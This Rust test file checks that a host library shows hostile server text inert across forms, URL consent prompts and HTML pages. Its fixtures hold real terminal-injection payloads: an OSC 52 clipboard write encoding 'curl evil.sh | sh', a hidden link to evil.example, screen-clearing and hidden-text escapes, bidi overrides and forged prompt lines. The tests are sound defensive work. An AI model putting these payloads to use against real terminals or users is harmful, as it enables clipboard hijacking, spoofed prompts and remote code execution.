//! Text from a hostile server is shown, never obeyed: escape sequences (a clipboard write, a
//! hidden link, a cleared screen, hidden text), a one-byte C1 CSI, a bell, a carriage return
//! that overwrites the line, a right-to-left override and a zero-width joiner, put in every
//! text a server controls, reach neither the terminal nor the page: each is shown as
//! `<U+XXXX>`. A message's extra lines cannot pass for the screen's own. The screens are
//! asserted whole.

use elicit_host::terminal::Terminal;
use elicit_host::{Consent, Elicitation, FormModel, UrlReport, html, safe_text};
use proptest::prelude::*;
use serde_json::json;

/// Clipboard write (OSC 52, ended by BEL).
const OSC52: &str = "\u{1b}]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u{7}";
/// A hidden link (OSC 8, ended by ST).
const OSC8: &str = "\u{1b}]8;;https://evil.example/\u{1b}\\";
/// Clear the screen.
const CSI_2J: &str = "\u{1b}[2J";
/// Hidden text.
const SGR_8: &str = "\u{1b}[8m";
/// The one-byte C1 CSI, then `2J`.
const C1_CSI: &str = "\u{9b}2J";

fn hostile_form() -> FormModel {
    let params = json!({
        "message": format!("Deploy{OSC52}\rApproved by your admin"),
        "requestedSchema": {
            "type": "object",
            "title": format!("Release{OSC8}"),
            "description": format!("{CSI_2J}Checked"),
            "properties": {
                "environment": {"type": "string",
                    "title": format!("Environment{SGR_8}\u{202e}noitcudorp"),
                    "description": format!("Where{C1_CSI}\u{7}"),
                    "oneOf": [{"const": "staging", "title": "Sta\u{200d}ging"},
                              {"const": "production", "title": format!("Production{CSI_2J}")}],
                    "default": "production"},
                "note": {"type": "string", "title": "Note", "default": "ok\u{1b}[8m"}
            },
            "required": ["environment"]
        }
    });
    match Elicitation::from_params(&params).unwrap() {
        Elicitation::Form(form) => form,
        Elicitation::Url(_) => unreachable!(),
    }
}

/// No character that acts on a terminal or hides: no control but the newline, no format
/// character (bidi, zero-width), no line or paragraph separator.
fn inert(screen: &str) -> bool {
    !screen.chars().any(|c| {
        (c.is_control() && c != '\n')
            || matches!(c, '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2060}'..='\u{2069}' | '\u{feff}' | '\u{2028}' | '\u{2029}' | '\u{61c}')
    })
}

/// The screen is exactly `lines`, and inert.
fn assert_screen(screen: Vec<u8>, lines: &[&str]) {
    let screen = String::from_utf8(screen).unwrap();
    assert_eq!(screen, lines.concat());
    assert!(inert(&screen), "{screen:?}");
}

#[test]
fn a_form_shows_every_server_text_inert() {
    let form = hostile_form();
    let mut screen = Vec::new();
    let result = Terminal::new("\n\ns\n".as_bytes(), &mut screen)
        .plain()
        .fill(&format!("Release desk{OSC52}"), &form)
        .unwrap();
    assert_eq!(
        serde_json::to_value(result).unwrap(),
        json!({"action": "accept", "content": {"environment": "production", "note": "ok\u{1b}[8m"}})
    );
    assert_screen(
        screen,
        &[
            "── Release desk<U+001B>]52;c;Y3VybCBldmlsLnNoIHwgc2g=<U+0007> asks ──\n",
            "Deploy<U+001B>]52;c;Y3VybCBldmlsLnNoIHwgc2g=<U+0007><U+000D>Approved by your admin\n",
            "Release<U+001B>]8;;https://evil.example/<U+001B>\\\n",
            "<U+001B>[2JChecked\n",
            "(Enter keeps the value in brackets, - clears it; :d declines, :c cancels)\n",
            "  1. Environment<U+001B>[8m<U+202E>noitcudorp * — choose one\n",
            "     Where<U+009B>2J<U+0007>\n",
            "     1) Sta<U+200D>ging   2) Production<U+001B>[2J\n",
            "     [Production<U+001B>[2J] > ",
            "  2. Note — \n",
            "     [ok<U+001B>[8m] > ",
            "Your answer:\n",
            "  1. Environment<U+001B>[8m<U+202E>noitcudorp * Production<U+001B>[2J\n",
            "  2. Note                                       ok<U+001B>[8m\n",
            "[s]end, a field's number to change it, [d]ecline, [c]ancel: ",
        ],
    );
}

#[test]
fn styles_are_the_only_escapes_on_a_styled_screen() {
    let form = hostile_form();
    let mut screen = Vec::new();
    Terminal::new(":c\n".as_bytes(), &mut screen)
        .fill(&format!("Release desk{CSI_2J}"), &form)
        .unwrap();
    let screen = String::from_utf8(screen).unwrap();
    assert!(screen.starts_with(
        "\u{1b}[1m── Release desk<U+001B>[2J asks ──\u{1b}[0m\n\
         Deploy<U+001B>]52;c;Y3VybCBldmlsLnNoIHwgc2g=<U+0007><U+000D>Approved by your admin\n\
         \u{1b}[1mRelease<U+001B>]8;;https://evil.example/<U+001B>\\\u{1b}[0m\n"
    ));
    let unstyled = screen.replace("\u{1b}[1m", "").replace("\u{1b}[0m", "");
    assert!(inert(&unstyled), "{unstyled:?}");
}

#[test]
fn a_messages_extra_lines_cannot_pass_for_the_screens_own() {
    let params = json!({
        "message": "Sign in to continue\n  goes to  https://accounts.example.com/\r\n  site     example.com",
        "requestedSchema": {"type": "object", "properties": {
            "ok": {"type": "boolean", "title": "OK\n  2. Pay * — yes or no", "description": "One\ntwo\tcolumns"}
        }}
    });
    let Elicitation::Form(form) = Elicitation::from_params(&params).unwrap() else {
        unreachable!()
    };
    let mut screen = Vec::new();
    Terminal::new(":d\n".as_bytes(), &mut screen)
        .plain()
        .fill("Desk\n── Trusted asks ──", &form)
        .unwrap();
    assert_screen(
        screen,
        &[
            "── Desk\n┆ ── Trusted asks ── asks ──\n",
            "Sign in to continue\n",
            "┆   goes to  https://accounts.example.com/\n",
            "┆   site     example.com\n",
            "(Enter keeps the value in brackets, - clears it; :d declines, :c cancels)\n",
            "  1. OK\n",
            "     ┆   2. Pay * — yes or no — yes or no\n",
            "     One\n",
            "     ┆ two    columns\n",
            "     [(empty)] > ",
        ],
    );
}

#[test]
fn a_url_consent_shows_every_server_text_inert() {
    // A secret-looking parameter whose name, once decoded, clears the screen and writes the
    // clipboard; another with a right-to-left override and a zero-width joiner.
    let url = "https://accounts.example.com/connect?%1B%5B2J%1B%5D52%3Bc%3BZXZpbA%3D%3D%07password=x\
               &%E2%80%AE%E2%80%8Dtoken=y";
    let report = UrlReport::assess(url, Some("https://accounts.example.com"));
    let mut screen = Vec::new();
    let consent = Terminal::new("d\n".as_bytes(), &mut screen)
        .plain()
        .consent(
            &format!("Release desk{OSC8}"),
            &format!("Connect{SGR_8}\u{9b}8m\u{202e}"),
            &report,
        )
        .unwrap();
    assert_eq!(consent, Consent::Declined);
    assert_screen(
        screen,
        &[
            "── Release desk<U+001B>]8;;https://evil.example/<U+001B>\\ asks you to open a page ──\n",
            "Connect<U+001B>[8m<U+009B>8m<U+202E>\n",
            "  goes to  https://accounts.[example.com]/connect?%1B%5B2J%1B%5D52%3Bc%3BZXZpbA%3D%3D%07password=x\
         &%E2%80%AE%E2%80%8Dtoken=y\n",
            "  site     example.com\n",
            "  ! the link carries what looks like a secret (`<U+001B>[2J<U+001B>]52;c;ZXZpbA==<U+0007>password`)\n",
            "  ! the link carries what looks like a secret (`<U+202E><U+200D>token`)\n",
            "Nothing has been opened. Open it in your browser? [o]pen, [d]ecline, [c]ancel: ",
        ],
    );
}

#[test]
fn a_url_that_does_not_parse_is_shown_inert() {
    let url = format!("https://example.com{CSI_2J}\u{202e}/");
    let report = UrlReport::assess(&url, None);
    let mut screen = Vec::new();
    Terminal::new("".as_bytes(), &mut screen)
        .plain()
        .consent("Desk", "Open", &report)
        .unwrap();
    let screen = String::from_utf8(screen).unwrap();
    assert!(
        screen.contains("  goes to  https://example.com<U+001B>[2J<U+202E>/\n"),
        "{screen}"
    );
    assert!(inert(&screen), "{screen:?}");
}

#[test]
fn the_html_page_shows_bidi_and_invisible_characters() {
    let form = hostile_form();
    let page = html::form(
        "Desk\u{202e}",
        &elicit_host::FormInput::new(&form),
        "/answer",
        &[],
    );
    assert!(page.contains("Desk&lt;U+202E&gt;"), "{page}");
    assert!(page.contains("Environment&lt;U+001B&gt;[8m&lt;U+202E&gt;noitcudorp"));
    assert!(page.contains("Sta&lt;U+200D&gt;ging"));
    assert!(inert(&page));
    let report = UrlReport::assess("https://example.com/?%E2%80%AEtoken=1", None);
    let panel = html::consent("Desk\u{200b}", "Open\u{2066}", &report, "/answer");
    assert!(panel.contains("Desk&lt;U+200B&gt;"), "{panel}");
    assert!(panel.contains("Open&lt;U+2066&gt;"));
    assert!(panel.contains("(`&lt;U+202E&gt;token`)"));
    assert!(inert(&panel));
}

/// Any character, with the ones that act or hide often: every C0 and C1 control and DEL,
/// bidi controls, zero-width and other invisible characters, tags, separators, newline, tab.
fn hostile_char() -> impl Strategy<Value = char> {
    prop_oneof![
        any::<char>(),
        (0u8..=0xa0).prop_map(char::from),
        prop::sample::select(vec![
            '\u{202a}',
            '\u{202e}',
            '\u{2066}',
            '\u{2069}',
            '\u{200e}',
            '\u{61c}',
            '\u{200b}',
            '\u{200d}',
            '\u{2060}',
            '\u{feff}',
            '\u{ad}',
            '\u{fff9}',
            '\u{e0041}',
            '\u{2028}',
            '\u{3164}',
            '\u{e000}',
            '\r',
            '\n',
            '\t',
            'a',
            ' ',
        ]),
    ]
}

proptest! {
    #[test]
    fn nothing_that_acts_or_hides_survives(
        chars in prop::collection::vec(hostile_char(), 0..64)
    ) {
        let text: String = chars.into_iter().collect();
        let safe = safe_text(&text);
        for c in safe.chars() {
            prop_assert!(
                c == '\n' || (!c.is_control() && !matches!(
                    unicode_category(c),
                    "Cf" | "Co" | "Cn" | "Cs" | "Zl" | "Zp"
                )),
                "{c:?} in {safe:?}"
            );
        }
        // Linear: no character becomes more than `<U+10FFFF>`.
        prop_assert!(safe.chars().count() <= 10 * text.chars().count());
        // Clean text is not copied.
        prop_assert_eq!(matches!(safe, std::borrow::Cow::Borrowed(_)), safe == text);
    }
}

/// A character's general category, as the property test checks it independently of the code.
fn unicode_category(c: char) -> &'static str {
    unicode_general_category::get_general_category(c).abbreviation()
}
